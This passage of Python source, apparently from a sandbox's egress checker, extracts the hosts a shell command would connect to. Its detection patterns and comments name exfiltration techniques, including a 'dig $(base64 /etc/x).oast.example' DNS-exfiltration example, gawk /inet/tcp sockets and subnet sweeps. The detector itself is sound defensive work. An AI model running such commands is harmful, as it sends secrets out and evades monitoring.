     "--peer", "--peers", "--seed", "--seeds", "--pool", "--url", "--proxy", "--relay",
     "--daemon-address", "--daemon-rpc-address", "--host-address", "--remote"}
)  # fmt: skip
_DOTLESS_NAME_PORT: Final = saferegex.compile(r"^([a-z][a-z0-9-]{0,62}):\d{1,5}$")
#: a network given to a program (``nmap 10.0.0.1/24``, ``./sweep 192.168.1.{}``): the
#: addresses it reaches; not an option's value (``--subnet 10.0.0.0/16`` configures)
_IPV4_NETWORK_OPERAND: Final = re.compile(r"^((?:\d{1,3}\.){3}\d{1,3})/\d{1,2}$")
#: options whose address is one to listen on, not one to reach
_BIND_OPTIONS: Final = ("--bind", "--listen", "-b", "--advertise", "-l", "--local", "--source")

#: the networks a sandbox's own address can be in (RFC 1918, shared address space, ULA)
_SITE_NETWORKS: Final = tuple(
    ipaddress.ip_network(n) for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16",
                                      "100.64.0.0/10", "fc00::/7")
)  # fmt: skip


def _own_address(value: str) -> bool:
    """Whether a listen option's value (``-b 0.0.0.0:8000``, ``--bind 10.0.0.5``) can be
    an address of the sandbox's own: loopback, unspecified, a private or link-local
    address, a bare port or a socket path. Anything else (a public address, a host name
    with a port: ``kcat -b kafka.internal:9092``, where ``-b`` is the broker) can only
    be a place to reach."""
    if value[:1] in ("", ":", "/", "[") or value.isdigit() or value.startswith("unix:"):
        return True
    name = value.rsplit(":", 1)[0] if value.count(":") == 1 else value
    host, ip = normalize_host(name.split("/", 1)[0])
    if ip is not None:
        return (
            ip.is_loopback or ip.is_unspecified or ip.is_link_local
            or any(ip in net for net in _SITE_NETWORKS if net.version == ip.version)
        )  # fmt: skip
    return "." not in host or host == "localhost" or host.endswith(".localhost")


#: programs for which an address is data: lookups, calculators, firewall and route tools
#: (decided by their own rules)
_ADDRESS_IS_DATA: Final = frozenset(
    {"dig", "host", "nslookup", "whois", "ipcalc", "sipcalc", "ip", "iptables", "ip6tables",
     "nft", "route", "ifconfig", "arp", "getent", "python-ipaddress", "prips", "docker",
     "podman", "kubectl", "ssh-keygen", "ssh-keyscan", "openssl"}
)  # fmt: skip

#: variables that say where programs connect (proxies, endpoints, servers): exported with
#: a URL they are a host every later command reaches
_CONNECTION_VAR: Final = re.compile(
    r"^[A-Za-z_]*(?:proxy|PROXY|_URL|_URI|_HOST|_ENDPOINT|_SERVER|_ADDR|_ADDRESS|_DSN)"
    r"[A-Za-z0-9_]*="
)
#: name lookups: a name built at run time and sent to a domain carries data out in the query
_LOOKUPS: Final = frozenset({"dig", "host", "nslookup", "drill", "kdig", "delv", "resolvectl",
                             "getent", "ping", "ping6", "curl", "wget"})  # fmt: skip
_BUILT_NAME: Final = saferegex.compile(
    r"[)}`]\.((?:[A-Za-z0-9-]{1,63}\.){1,8}[A-Za-z]{2,63})\.?$"
)

#: git subcommands that connect to the URLs they are given (``git remote add``, ``git
#: config`` and the like only record one: the push or fetch that uses it is decided then)
_GIT_CONNECTS: Final = frozenset(
    {"clone", "fetch", "pull", "push", "ls-remote", "submodule", "archive", "request-pull",
     "send-email", "svn", "p4", "lfs"}
)  # fmt: skip


def _git_connects(args: list[str]) -> bool:
    j = 0
    while j < len(args) and args[j].startswith("-"):
        j += 2 if args[j] in ("-C", "-c", "--git-dir", "--work-tree", "--namespace") else 1
    return j < len(args) and args[j] in _GIT_CONNECTS


def _repository_hosts(prog: str, args: list[str], found: list[str]) -> None:
    """The host of a backup repository: ``restic -r sftp:u@h:/r`` / ``s3:h/b`` / ``b2:b``,
    ``borg create u@h:repo::a`` (URLs, ``rest:http://h``, are found with the others)."""
    if prog == "restic":
        for value in _option_values(args, _REPO_OPTIONS[prog]):
            backend = value.split(":", 1)[0]
            m = _RESTIC_SFTP.match(value) or _RESTIC_S3.match(value)
            if m is not None:
                _add(found, _plausible(m.group(1)) or _url_host(m.group(1)))
            elif backend in _RESTIC_SERVICES and ":" in value:
                _add(found, _RESTIC_SERVICES[backend])
        return
    for a in args:  # borg / kopia: an scp-like ``user@host:path`` operand
        if "@" in a and not a.startswith("-"):
            m = _SCP_REMOTE.match(a)
            if m is not None:
                _add(found, _url_host(m.group(1)))


def command_hosts(argv: list[str]) -> list[str]:
    """The hosts ``argv`` names as places to connect to (see the module docstring)."""
    if len(argv) < 2:
        return []
    prog = argv[0].rsplit("/", 1)[-1]
    args = argv[1:]
    found: list[str] = []
    codes = interpreter_code(argv)
    for code in codes:
        for host in code_hosts(code):
            _add(found, host)
    if prog not in _TEXT_PROGRAMS and (prog != "git" or _git_connects(args)):
        endpoint = _endpoint_named(args)
        for a in args:
            if codes and a in codes:
                continue
            if "://" in a:
                value = a.split("=", 1)[1] if a.startswith("-") and "=" in a else a
                prefix = _PREFIXED_URL.match(value)
                if prefix is not None:
                    value = value[prefix.end() :]
                m = _ARG_URL.match(value)
                if m is None or m.group(1).lower() in LOCAL_SCHEMES:
                    continue
                if endpoint and m.group(1).lower() in _BUCKET_SCHEMES:
                    continue  # the bucket is at the endpoint named (decided as its host)
                _add(found, _url_host(m.group(2), m.group(1)))
            elif prog == "git" and "@" in a:
                m = _SCP_REMOTE.match(a)
                if m is not None:
                    _add(found, _url_host(m.group(1)))
    if prog not in _TEXT_PROGRAMS and prog not in _ADDRESS_IS_DATA:
        previous = ""
        for a in args:
            if len(found) >= _MAX_HOSTS:
                break
            value = a
            if a.startswith("-") and "=" in a:
                previous, value = a.split("=", 1)
            bind = previous.startswith(_BIND_OPTIONS) and _own_address(value)
            ipv4 = _IPV4_OPERAND.match(value) if value[:1].isdigit() else None
            if ipv4 is not None and _IPV4_NETWORK_OPERAND.match(value):
                ipv4 = None  # a network: below, unless an option's value
            if ipv4 is not None and not bind:
                _add(found, _plausible(value if value.count(":") == 1 and "/" not in value
                                       else ipv4.group(1)))  # fmt: skip
            elif (
                not bind
                and ":" in value
                and len(value) < 512
                and value[-1].isdigit() | ("/" in value)
                and _NAME_PORT_OPERAND.match(value)
            ):
                _add(found, _plausible(_NAME_PORT_OPERAND.match(value).group(1)))  # type: ignore[union-attr]
            elif value is a and not (previous.startswith("--") and "=" not in previous):
                network = _IPV4_NETWORK_OPERAND.match(a)
                if network is not None:
                    _add(found, _plausible(network.group(1)))
                elif a[:1].isdigit() and ("{" in a or "$" in a or "%" in a):
                    _add(found, _templated_ipv4(a))
            previous = a
    if prog in _DOWNLOADERS:
        opts = _DOWNLOADERS[prog]
        j = 0
        while j < len(args):
            a = args[j]
            if a.startswith("-") and len(a) > 1:
                j += 2 if _takes_value(a, opts) else 1
                continue
            if "://" not in a:
                m = _SCHEMELESS.match(a)
                if m is not None:
                    _add(found, _plausible(m.group(1)))
            j += 1
    if prog in _HOST_OPTIONS:
        for value in _option_values(args, _HOST_OPTIONS[prog]):
            if prog == "wget":  # -e use_proxy=yes -e http_proxy=h:3128
                value = value.partition("_proxy=")[2] if "_proxy=" in value else ""
            for part in value.split(","):
                m = _ARG_URL.match(part)
                _add(found, _plausible(m.group(2) if m else part))
        for a in args if prog in _LIBPQ else ():
            if "host=" in a:
                for m in _CONNINFO_HOST.finditer(a):
                    _add(found, _plausible(m.group(1)))
    if prog in _HOST_OPERAND:
        first = _first_operand(args, _HOST_OPERAND[prog])
        if first is not None:
            _add(found, _plausible(first))
    if prog in _REPO_OPTIONS:
        _repository_hosts(prog, args, found)
    if prog == "socat":
        for a in args:
            m = _SOCAT_TCP.match(a)
            if m is not None:
                _add(found, _plausible(m.group(1)))
    if prog not in _TEXT_PROGRAMS:
        _option_hosts(args, found)
    if prog in ("export", "declare", "typeset", "setenv"):  # export https_proxy=http://h
        for a in args:
            m = _CONNECTION_VAR.match(a)
            if m is not None and "://" in a:
                for host in command_hosts(["env", a]):
                    _add(found, host)
    if prog in _LOOKUPS:
        for a in args:
            if "$" in a or "`" in a:  # dig $(base64 /etc/x).oast.example: data in the name
                m = _BUILT_NAME.search(a)
                if m is not None:
                    _add(found, _plausible(m.group(1)))
    for a in args:
        if "/inet" in a:  # gawk's network files: /inet/tcp/0/HOST/PORT
            for m in _GAWK_INET.finditer(a[:_MAX_CODE]):
                _add(found, _plausible(m.group(1)))
        if "/dns" in a or "/ip" in a:  # multiaddrs: /dnsaddr/HOST/tcp/4000, /ip4/A/udp/…
            for m in _MULTIADDR.finditer(a[:_MAX_CODE]):
                _add(found, _plausible(m.group(1)))
    return found


def piped_hosts(prog: str, text: str) -> list[str]:
    """The hosts in text ``echo``/``printf`` pipe into ``prog`` that is not an interpreter:
    scanners and clients read their targets from standard input as from their operands
    (``echo 10.0.0.0/16 | tlsx``, ``printf 'h.example:443\\n' | httpx``), so each word is
    decided as an operand would be; a program that only handles text (``grep``, ``jq``,
    ``ipcalc``) reads data, not places."""
    name = prog.rsplit("/", 1)[-1]
    if name in _TEXT_PROGRAMS or name in _ADDRESS_IS_DATA:
        return []
    words = text[:_MAX_CODE].split()[:256]
    return command_hosts([name, *words]) if words else []


def _option_hosts(args: list[str], found: list[str]) -> None:
    """Hosts given as the value of a host-naming option of any program
    (:data:`_HOST_VALUE_OPTIONS`): ``--bootstrap-server kafka:9092``, ``--server=h:p``."""
    for value in _option_values(args, _HOST_VALUE_OPTIONS):
        for part in value.split(",")[:_MAX_HOSTS]:
            if "://" in part:
                continue  # found with the URLs
            m = _DOTLESS_NAME_PORT.match(part)
            if m is not None:
                _add(found, m.group(1))
                continue
            part = part.rsplit("@", 1)[-1]  # --server agent@198.51.100.90
            name = part.rsplit(":", 1)[0] if part.count(":") == 1 else part
            _add(found, _plausible(name.split("/", 1)[0]))
